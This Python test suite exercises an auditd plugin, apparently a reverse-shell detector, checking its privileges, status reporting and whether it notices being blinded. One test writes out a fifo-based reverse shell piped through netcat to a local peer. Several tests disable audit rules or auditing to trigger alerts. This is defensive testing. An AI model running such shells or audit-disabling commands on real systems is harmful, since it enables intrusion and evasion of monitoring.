# SPDX-License-Identifier: Apache-2.0
"""The plugin under a real auditd and itself: what rights it has, what it tells of itself, whether it notices that it is made
blind, what it knows after kill -9, and its self test."""
import json
import os
import pathlib
import pwd
import signal
import subprocess
import time

import live_test
import private_host
from loaded_rules import Told, awaited
from private_host import ALERTS, CONFIG, PLUGIN_UID, STATE, UID, USER, WORK, audit_status, run_as_user

CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE, CAP_AUDIT_CONTROL = 2, 19, 30
RULES_GONE = '441eb1cb-b1f8-4b74-8e40-d6ed2a894fae'
KERNEL_LOST = '76f902eb-4fc2-4fa1-8b93-eab8593d49aa'
AUDIT_OFF = 'f1ca251b-f2a7-4ee9-8005-9a92f720585e'


def plugin_pid():
    return int(private_host.plugin_runs(audit_status('pid')).split()[0])


def kernel_asker_pid():
    return int(subprocess.check_output(['pgrep', '-P', str(plugin_pid())]).split()[0])


def rights(pid):
    lines = pathlib.Path(f'/proc/{pid}/status').read_text().splitlines()
    return {name: value.split() for name, value in (line.split(':', 1) for line in lines)}


def wrong_rights(pid, capabilities):
    mask = f'{sum(1 << number for number in capabilities):016x}'
    wanted = {'Uid': [str(PLUGIN_UID)] * 4, 'Gid': [str(pwd.getpwuid(PLUGIN_UID).pw_gid)] * 4, 'Groups': [], 'CapEff': [mask], 'CapPrm': [mask],
              'CapInh': ['0' * 16], 'CapBnd': ['0' * 16], 'CapAmb': ['0' * 16], 'NoNewPrivs': ['1'], 'Seccomp': ['2']}
    found = rights(pid)
    return '; '.join(f'{name} is {found[name]}' for name, value in wanted.items() if found[name] != value)


def pipehound(*words):
    return subprocess.run([WORK / 'pipehound', *words, f'--config={CONFIG}'], capture_output=True, text=True)


def status():
    return json.loads(pipehound('status', '--json').stdout)


def it_runs_with_few_rights(journal):
    return wrong_rights(plugin_pid(), [CAP_DAC_READ_SEARCH, CAP_SYS_PTRACE])


def who_asks_the_kernel_can_do_nothing_else(journal):
    pid = kernel_asker_pid()
    open_files = {int(name): os.readlink(f'/proc/{pid}/fd/{name}') for name in os.listdir(f'/proc/{pid}/fd')}
    pair = open_files.pop(3, '')
    plain = set(open_files.values()) == {'/dev/null'} and pair.startswith('socket:')
    return wrong_rights(pid, [CAP_AUDIT_CONTROL]) or ('' if plain else f'it holds {open_files} and {pair}')


def it_dumps_no_core(journal):
    limits = pathlib.Path(f'/proc/{plugin_pid()}/limits').read_text().splitlines()
    core = next(line for line in limits if line.startswith('Max core')).split()
    return '' if core[4:6] == ['0', '0'] else f'core limit {core}'


def its_files_are_its_own(journal):
    lines = ALERTS.read_text().splitlines()
    if not any(json.loads(line)['pipehound']['level'] in ('high', 'critical') for line in lines):
        return 'no alert in the file'
    awaited(STATE.exists, 3)
    return '; '.join(f'{file} is of uid {file.stat().st_uid}' for file in (ALERTS, ALERTS.parent, STATE) if file.stat().st_uid != PLUGIN_UID)


def status_tells_how_it_fares(journal):
    awaited(lambda: status()['kernel']['known'], 5)
    told = status()
    wrong = [] if told['pid'] == plugin_pid() else [f'pid {told["pid"]}']
    wrong += [] if told['input']['events'] > 100 else [f'{told["input"]["events"]} events']
    wrong += [] if told['kernel']['known'] and told['kernel']['enabled'] == 1 else [f'kernel {told["kernel"]}']
    wrong += [] if told['kernel'].get('own_rules') == len(list(private_host.rules())) else ['its rules are not counted']
    wrong += [] if told['auditd'].get('queue_limit', 0) > 0 and not told['auditd']['overflowed'] else [f'auditd {told["auditd"]}']
    wrong += [] if any(rule['name'].startswith('Reverse shell') for rule in told['alerts']) else ['no alert counted']
    wrong += [] if not told['blindness'] else [f'blind: {told["blindness"]}']
    text = pipehound('status')
    return '; '.join(wrong) or ('' if text.returncode == 0 and 'runs as process' in text.stdout else f'text: {text.stdout}{text.stderr}')


def strangers_may_not_ask(journal):
    asked = subprocess.run(['setpriv', f'--reuid={UID}', f'--regid={UID}', '--clear-groups', WORK / 'pipehound', 'status', f'--config={CONFIG}'],
                           capture_output=True, text=True)
    return '' if asked.returncode == 2 and 'only root and the group adm' in asked.stderr else f'{asked.returncode}: {asked.stdout}{asked.stderr}'


def a_set_that_is_loaded_anew_alarms_nobody(journal):
    told = Told(journal)
    subprocess.run(['auditctl', '-D'], check=True, stdout=subprocess.DEVNULL)
    private_host.load_rules()
    time.sleep(7)
    return 'an alert was told' if told.alert(RULES_GONE) else ''


def rules_that_are_removed_are_told(journal):
    told = Told(journal)
    begin = time.time()
    subprocess.run(['auditctl', '-D'], check=True, stdout=subprocess.DEVNULL)
    alert = told.await_alert(RULES_GONE, 12)
    lasting = status()['blindness']
    private_host.load_rules()
    if alert is None:
        return 'no alert'
    print(f'note: rules that were removed are told after {int(alert["__REALTIME_TIMESTAMP"]) / 1e6 - begin:.1f} s')
    wanted = {'PRIORITY': '3', 'PIPEHOUND_KIND': 'blindness', 'PIPEHOUND_LEVEL': 'high', 'MESSAGE_ID': '0bd0d00b8e994c28a9fca28cc29fed14'}
    wrong = [f'{key} is {alert.get(key)}' for key, value in wanted.items() if alert.get(key) != value]
    wrong += [] if alert.get('PIPEHOUND_SUBJECT_EXE', '').endswith('auditctl') else [f'done by {alert.get("PIPEHOUND_SUBJECT_EXE")}']
    wrong += [] if len(lasting) == 1 else [f'status says {lasting}']
    wrong += [] if told.await_words('that is over', 25) else ['its end was not said']
    return '; '.join(wrong)


def audit_that_is_switched_off_is_told(journal):
    told = Told(journal)
    subprocess.run(['auditctl', '-e', '0'], check=True, stdout=subprocess.DEVNULL)
    alert = told.await_alert(AUDIT_OFF, 12)
    subprocess.run(['auditctl', '-e', '1'], check=True, stdout=subprocess.DEVNULL)
    if alert is None:
        return 'no alert'
    return '' if told.await_words('that is over', 25) else 'its end was not said'


def records_that_the_kernel_drops_are_told(journal):
    told = Told(journal)
    subprocess.run(['auditctl', '-r', '5'], check=True, stdout=subprocess.DEVNULL)
    try:
        run_as_user('for i in $(seq 50); do /bin/true; done').wait(20)
    finally:
        subprocess.run(['auditctl', '-r', '0'], check=True, stdout=subprocess.DEVNULL)
    alert = told.await_alert(KERNEL_LOST, 25)
    if alert is None:
        return f'no alert; the kernel says lost {audit_status("lost")}'
    print(f'note: what the kernel drops is told after {int(alert["__REALTIME_TIMESTAMP"]) / 1e6 - told.since:.1f} s')
    return '' if alert['PIPEHOUND_LEVEL'] == 'medium' and ' so far' in alert['PIPEHOUND_REASON'] else f'{alert}'


def a_shell_that_was_set_up_before_kill_9_is_found_after_it(journal):
    live_test.fresh_home()
    run_as_user('mkfifo f; sh <f 2>&1 | (sleep 6; exec nc.openbsd 127.0.0.1 $P) >f', P='7499')
    peer = live_test.Peer(7499, 'id')
    peer.start()
    time.sleep(2.5)  # it is saved by then
    told, before = Told(journal), plugin_pid()
    os.kill(before, signal.SIGKILL)
    if not awaited(lambda: private_host.plugin_runs(audit_status('pid')) and plugin_pid() != before, 5):
        return 'auditd did not start it again'
    if not told.await_words('goes on with', 3):
        return 'it knew nothing'
    alert = live_test.await_alert(journal, told.since, 'high', 10)
    peer.await_answer()
    return '' if alert else 'no alert'


def selftest_passes_and_counts_for_nothing(journal):
    before, since = status()['alerts'], time.time()
    test = pipehound('selftest', f'--user={USER}')
    print('note: ' + '; '.join(line.strip() for line in test.stdout.splitlines()))
    if test.returncode != 0:
        return f'exit status {test.returncode}: {test.stdout}{test.stderr}'
    kinds = {alert.get('PIPEHOUND_KIND') for alert in journal.alerts(since)}
    if kinds != {'selftest'}:
        return f'marked as {kinds}'
    return '' if status()['alerts'] == before else f'counted: {status()["alerts"]}'


def selftest_names_the_broken_link(journal):
    subprocess.run(['auditctl', '-D'], check=True, stdout=subprocess.DEVNULL)
    test = pipehound('selftest', f'--user={USER}')
    private_host.load_rules()
    return '' if test.returncode == 1 and 'the kernel has no audit rules' in test.stdout else f'{test.returncode}: {test.stdout}{test.stderr}'


CASES = (it_runs_with_few_rights, who_asks_the_kernel_can_do_nothing_else, it_dumps_no_core, its_files_are_its_own, status_tells_how_it_fares,
         strangers_may_not_ask, a_set_that_is_loaded_anew_alarms_nobody, rules_that_are_removed_are_told, audit_that_is_switched_off_is_told,
         records_that_the_kernel_drops_are_told,
         a_shell_that_was_set_up_before_kill_9_is_found_after_it, selftest_passes_and_counts_for_nothing, selftest_names_the_broken_link)
